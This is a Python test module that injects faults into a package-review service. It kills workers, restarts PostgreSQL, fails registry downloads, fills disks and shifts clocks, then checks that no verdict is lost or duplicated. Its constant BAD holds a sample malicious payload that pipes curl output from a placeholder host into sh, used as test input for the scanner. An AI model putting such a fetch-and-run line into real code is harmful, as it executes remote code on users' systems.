"""Everything that may go wrong around a review, each made to happen in the middle of work.

The tests ask of every fault that nothing is lost or decided twice; `python -m bench service` makes
the same faults happen to a service with its own settings, and measures how long it takes to heal.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

from sqlalchemy import func, select

from antivenom.store.schema_uploads import uploads as table
from tests.builders import postgres
from tests.builders.index import serve as index
from tests.builders.service import children, resume
from tests.service.engine.running import QUICK, Running, running

BAD = "import os\nos.system('curl https://host.invalid/x | sh')\n"
HELD = 4
"""Uploads whose bytes the registry holds back until the fault has happened."""
_YEAR = 365 * 86_400.0


@dataclass(frozen=True, slots=True)
class Stage:
    """Where faults happen: a folder, how many uploads there are, and the pace of the service."""

    folder: Path
    count: int = 6
    pace: Mapping[str, str] = field(default_factory=lambda: QUICK)
    ready: int = 2
    """Verdicts after which the fault happens."""

    @contextmanager
    def service(self, *, database: str = "", **given: str) -> Iterator[Running]:
        """Give a service on a registry that holds back the last uploads."""
        with (
            index() as fake,
            running(self.folder, fake, database=database, pace=dict(self.pace), **given) as service,
        ):
            fake.held = {f"thing{n}-1.0.tar.gz" for n in range(self.count - HELD, self.count)}
            yield service

    def at_work(self, service: Running, workers: int) -> None:
        """Announce the uploads to so many workers, half of them bad, and wait for the first."""
        service.wait(lambda: service.beating() == workers, "workers")
        half = self.count // 2
        service.announce(half, code=BAD)
        service.announce(self.count - half, first=half)
        service.wait(lambda: service.done() >= self.ready, "the first verdicts")


@dataclass(frozen=True, slots=True)
class Outcome:
    """What a fault did."""

    uploads: int
    under_way: int
    """Uploads it interrupted."""
    seconds: float
    """From its end until the last of those had its verdict."""
    lost: int
    twice: int


def one_worker_killed(stage: Stage) -> Outcome:
    """Kill -9 one of two workers."""
    with stage.service() as service:
        first, _ = service.start("work"), service.start("work")
        stage.at_work(service, 2)
        had = service.caught(first.pid)
        service.kill(first)
        return _healed(service, had, stage.count)


def all_workers_killed(stage: Stage) -> Outcome:
    """Kill -9 both workers, and start two new ones."""
    with stage.service() as service:
        both = [service.start("work"), service.start("work")]
        stage.at_work(service, 2)
        had = service.caught(*(process.pid for process in both))
        for process in both:
            service.kill(process)
        begun = time.monotonic()
        _ = [service.start("work") for _ in both]
        return _healed(service, had, stage.count, begun)


def worker_stands_still(stage: Stage) -> Outcome:
    """Stop a worker until its work was taken over and done, then let it go on with it."""
    with stage.service() as service:
        first, second = service.start("work"), service.start("work")
        stage.at_work(service, 2)
        had = service.caught(first.pid)
        found = _healed(service, had, stage.count)
        resume(first.pid)
        # It ends what it has in hand as if nothing had happened, and only then goes.
        statuses = service.stop(first), service.stop(second)
        assert statuses == (0, 0)
        return replace(found, lost=service.lost(stage.count), twice=service.twice())


def serve_killed(stage: Stage) -> Outcome:
    """Kill -9 everything that `serve` is, and start it again."""
    with stage.service() as service:
        command = ("serve", "--no-watch", "--listen", f"127.0.0.1:{free_port()}")
        process = service.start(*command)
        stage.at_work(service, 1)
        everything = [process.pid, *children(process.pid)]
        had = service.caught(*everything)
        for pid in everything:
            os.kill(pid, signal.SIGKILL)
        process.wait(60)
        begun = time.monotonic()
        again = service.start(*command)
        found = _healed(service, had, stage.count, begun)
        service.stop(again)
        return found


def database_restarted(stage: Stage) -> Outcome:
    """Stop the database as a power cut would, and start it again two seconds later."""
    with postgres.cluster() as cluster, stage.service(database=cluster.url) as service:
        worker = service.start("work")
        stage.at_work(service, 1)
        had = service.caught(worker.pid)
        cluster.stop()
        resume(worker.pid)
        service.fake.gate.set()
        time.sleep(2.0)
        assert worker.poll() is None, "a worker waits for its database"
        cluster.start()
        return _healed(service, had, stage.count)


def registry_in_trouble(stage: Stage) -> Outcome:
    """Answer 500, 429, half a file and another file, until each was noticed."""
    with stage.service() as service:
        service.start("work")
        service.wait(lambda: service.beating() == 1, "a worker")
        fake = service.fake
        fake.gate.set()
        ids = service.announce(HELD)
        fake.status["/simple/thing0/"] = [-500]
        fake.status["/files/thing1-1.0.tar.gz"] = [-429]
        fake.headers["Retry-After"] = "1"
        true, fake.files[2].announced = fake.files[2].announced, {"sha256": "0" * 64}
        fake.files[3].truncate = 20
        said = ("answered 500", "answered 429", "not the one announced", "cut off")
        for n, words in enumerate(said):
            service.until_said(f"thing{n}", words)
        assert service.done() == 0
        fake.status.clear()
        fake.files[2].announced, fake.files[3].truncate = true, None
        return _healed(service, ids, HELD)


def disk_full_for_blobs(stage: Stage) -> Outcome:
    """Fill the disk on which bytes are kept, then make room."""
    return _disk_full(stage, "BLOBS", "cannot be kept")


def disk_full_for_the_spool(stage: Stage) -> Outcome:
    """Fill the disk on which files are put while they are read, then make room."""
    return _disk_full(stage, "SPOOL", "No space left")


_SMALL_DISK = """
mount -t tmpfs -o size=256k,mode=0700 tmpfs "$1" || exit 9
dd if=/dev/zero of="$1/ballast" bs=4k 2>/dev/null
(until [ -e "$2" ]; do sleep 0.1; done; rm "$1/ballast") &
shift 2; exec "$@"
"""


def _disk_full(stage: Stage, what: str, words: str) -> Outcome:
    """Have a worker see a disk of its own, a real one of 256 KB."""
    disk, room = stage.folder / "disk", stage.folder / "room"
    disk.mkdir()
    count = HELD
    with stage.service(**{what: str(disk / "kept")}) as service:
        try:
            work = [sys.executable, "-m", "antivenom", "work"]
            worker = service.launch(
                [*_APART, "sh", "-c", _SMALL_DISK, "sh", str(disk), str(room), *work]
            )
            service.wait(lambda: service.beating() == 1, "a worker")
            service.fake.gate.set()
            ids = service.announce(count, code=BAD)
            for n in range(count):
                service.until_said(f"thing{n}", words)
            assert service.done() == 0
            room.touch()
            found = _healed(service, ids, count)
            # The disk is that of the worker's own mounts; the kernel shows it to us there.
            kept = Path(f"/proc/{worker.pid}/root{disk}/kept")
            assert what == "SPOOL" or len(list(kept.rglob("*.zip"))) == count
            assert not list(kept.rglob("*.part"))
            return found
        finally:
            room.touch()


_APART = ("unshare", "--user", "--map-root-user", "--mount")


def small_disks() -> bool:
    """Whether this machine gives a process a file system of its own."""
    if shutil.which("unshare") is None or not sys.platform.startswith("linux"):
        return False
    with tempfile.TemporaryDirectory() as place:
        mount = ("mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", place)
        ran = subprocess.run([*_APART, *mount], check=False, capture_output=True)
    return ran.returncode == 0


def clocks_jump(stage: Stage) -> Outcome:
    """Set one worker's clock a year ahead and the other's a year back; then kill the first."""
    with stage.service() as service:
        places = [service.folder / "ahead", service.folder / "behind"]
        for place in places:
            _set(place, 0)
        module = "tests.service.engine.jumping"
        first, second = (
            service.launch([sys.executable, "-m", module, str(place), "work"]) for place in places
        )
        stage.at_work(service, 2)
        _set(places[0], _YEAR)
        _set(places[1], -_YEAR)
        # Long enough for each to take the other for dead, if it went by the clock on the wall.
        time.sleep(service.settings.dead_after_seconds + 1.0)
        assert service.beating() == 2, "no clock makes a worker dead"
        had = service.caught(first.pid)
        with service.store.reading() as connection:
            assert connection.scalar(select(func.max(table.c.attempts))) == 1
        service.kill(first)
        _set(places[1], 0)
        found = _healed(service, had, stage.count)
        service.stop(second)
        return found


ALL: Mapping[str, Callable[[Stage], Outcome]] = {
    "one of two workers killed (-9)": one_worker_killed,
    "both workers killed (-9), two new ones": all_workers_killed,
    "a worker stands still, is taken for dead, goes on": worker_stands_still,
    "the whole of `serve` killed (-9), started again": serve_killed,
    "PostgreSQL stopped at once, started again": database_restarted,
    "registry: 500, 429, cut off, wrong hash": registry_in_trouble,
    "disk of the blobs full": disk_full_for_blobs,
    "disk of the spool full": disk_full_for_the_spool,
    "clocks set a year ahead and back, a worker killed": clocks_jump,
}


def missing(fault: Callable[[Stage], Outcome]) -> str:
    """Return what this machine lacks for a fault, "" when it can happen here."""
    if fault is database_restarted and postgres.binaries() is None:
        return "no PostgreSQL here"
    if fault in (disk_full_for_blobs, disk_full_for_the_spool) and not small_disks():
        return "the kernel gives no file system of our own here"
    return ""


def _healed(
    service: Running, ids: Sequence[int], count: int, begun: float | None = None
) -> Outcome:
    """Wait until everything has its verdict, and say how long what was interrupted took."""
    begun = time.monotonic() if begun is None else begun
    service.fake.gate.set()
    service.wait(lambda: service.done(ids) == len(ids), "what was under way")
    took = time.monotonic() - begun
    service.wait(lambda: service.done() == count, "everything")
    return Outcome(count, len(ids), took, service.lost(count), service.twice())


def _set(place: Path, seconds: float) -> None:
    passing = place.with_suffix(".new")
    passing.write_text(str(seconds))
    passing.replace(place)


def free_port() -> int:
    """Return a port nobody listens on."""
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])
